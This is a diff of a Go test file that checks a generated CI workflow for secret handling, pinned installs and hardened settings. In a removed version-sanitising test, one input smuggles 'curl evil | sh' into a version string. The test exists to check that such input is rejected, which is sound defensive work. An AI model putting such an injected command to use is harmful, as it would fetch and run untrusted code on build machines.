@@ -5,13 +5,28 @@ import (
 	"slices"
 	"strings"
 	"testing"
+
+	"phantomstack.dev/stack/internal/config"
 )
 
-// The workflow reads exactly the two repository secrets the next steps
-// name, each only through a ${{ secrets.X }} expression, and nothing else
+func ciTestConfig() *config.Config {
+	c := config.New("/nonexistent", "")
+	c.SetService(&config.Service{Name: "openai", Provider: "openai", Secrets: []string{"OPENAI_API_KEY"}})
+	c.SetService(&config.Service{Name: "vercel", Provider: "vercel", Secrets: []string{"VERCEL_TOKEN"}, ResourceID: "prj_abc123", Meta: map[string]string{"team_id": "team_x1"}})
+	c.SetService(&config.Service{Name: "db", Provider: "supabase", Secrets: []string{"SUPABASE_ANON_KEY"}})
+	return c
+}
+
+// The workflow reads exactly the repository secrets the next steps name,
+// each only through a ${{ secrets.X }} expression, and nothing else
 // secret-shaped.
 func TestCIWorkflowSecrets(t *testing.T) {
-	wf := ciWorkflow("latest")
+	fill, secrets := ciFillSteps(ciTestConfig())
+	want := []string{"PHANTOM_VAULT_PASSPHRASE", "OPENAI_API_KEY", "VERCEL_TOKEN", "SUPABASE_ACCESS_TOKEN", "SUPABASE_DB_PASSWORD"}
+	if !slices.Equal(secrets, want) {
+		t.Fatalf("secrets %q, want %q", secrets, want)
+	}
+	wf := ciWorkflow("", fill, secrets)
 	any := regexp.MustCompile(`secrets\.([A-Za-z0-9_-]+)`).FindAllStringSubmatch(wf, -1)
 	expr := regexp.MustCompile(`\$\{\{ secrets\.([A-Z0-9_]+) \}\}`).FindAllStringSubmatch(wf, -1)
 	if len(any) == 0 || len(any) != len(expr) {
@@ -23,48 +38,40 @@ func TestCIWorkflowSecrets(t *testing.T) {
 	}
 	slices.Sort(names)
 	names = slices.Compact(names)
-	if !slices.Equal(names, ciSecrets) {
-		t.Errorf("workflow reads secrets %q, want exactly %q", names, ciSecrets)
+	sorted := slices.Sorted(slices.Values(want))
+	if !slices.Equal(names, sorted) {
+		t.Errorf("workflow reads secrets %q, want exactly %q", names, sorted)
 	}
-	// The cloud token is needed by the pull step only.
-	if n := strings.Count(wf, "secrets.PHANTOM_CLOUD_TOKEN"); n != 1 {
-		t.Errorf("PHANTOM_CLOUD_TOKEN is given to %d steps, want 1", n)
+	// Each service's key goes to its own step only.
+	if n := strings.Count(wf, "secrets.OPENAI_API_KEY"); n != 1 {
+		t.Errorf("OPENAI_API_KEY is given to %d steps, want 1", n)
 	}
-	for _, bad := range []string{"phm_", "secrets: inherit", "pull_request_target", ": write"} {
+	for _, bad := range []string{"phm_", "secrets: inherit", "pull_request_target", ": write", "cloud pull", "@latest"} {
 		if strings.Contains(wf, bad) {
 			t.Errorf("workflow contains %q", bad)
 		}
 	}
-}
-
-func TestCIInstallVersion(t *testing.T) {
-	for v, want := range map[string]string{
-		"v1.2.3":                               "v1.2.3",
-		"v0.4.0-rc.1":                          "v0.4.0-rc.1",
-		"0.1.0-dev":                            "latest", // buildinfo's dev version
-		"":                                     "latest",
-		"28a55c2":                              "latest", // git describe without tags
-		"v1.2.3-4-g28a55c2-dirty":              "latest",
-		"v1.2.3-dirty":                         "latest",
-		"v0.0.0-20260101120000-abcdef123456":   "latest", // pseudo-version
-		"v1.2.4-0.20260101120000-abcdef123456": "latest",
-		"v1.2.3; curl evil | sh":               "latest",
-		"v1.2.3\n":                             "latest",
-	} {
-		if got := ciInstallVersion(v); got != want {
-			t.Errorf("ciInstallVersion(%q) = %q, want %q", v, got, want)
-		}
-	}
-	wf := ciWorkflow("v1.2.3")
 	for _, want := range []string{
-		"go install phantomstack.dev/phantom/cmd/phantom@v1.2.3\n",
-		"go install phantomstack.dev/stack/cmd/stack@v1.2.3\n",
+		"          stack add openai\n",
+		"          stack add vercel --use prj_abc123 --team team_x1\n",
+		// no resource recorded: the step says what to do instead of guessing
+		"::error::no resource id for db in .stack.local.toml",
+		// no install command chosen: the step fails and says how to set it
+		"::error::stack ci init wrote no install command: run stack ci init --force --install",
 	} {
 		if !strings.Contains(wf, want) {
-			t.Errorf("workflow lacks %q", want)
+			t.Errorf("workflow lacks %q:\n%s", want, wf)
 		}
 	}
-	if strings.Contains(wf, "@latest") || strings.Contains(wf, "@VERSION") {
-		t.Error("a release workflow still installs an unpinned version")
+}
+
+// --install goes into the install step as given, one line per line.
+func TestCIWorkflowInstall(t *testing.T) {
+	wf := ciWorkflow("go install example.com/x/phantom@v1\nmake -C tools install", "", []string{"PHANTOM_VAULT_PASSPHRASE"})
+	if !strings.Contains(wf, "        run: |\n          go install example.com/x/phantom@v1\n          make -C tools install\n") {
+		t.Fatalf("install step:\n%s", wf)
+	}
+	if strings.Contains(wf, "::error::") {
+		t.Fatal("a chosen install command still fails the step")
 	}
 }
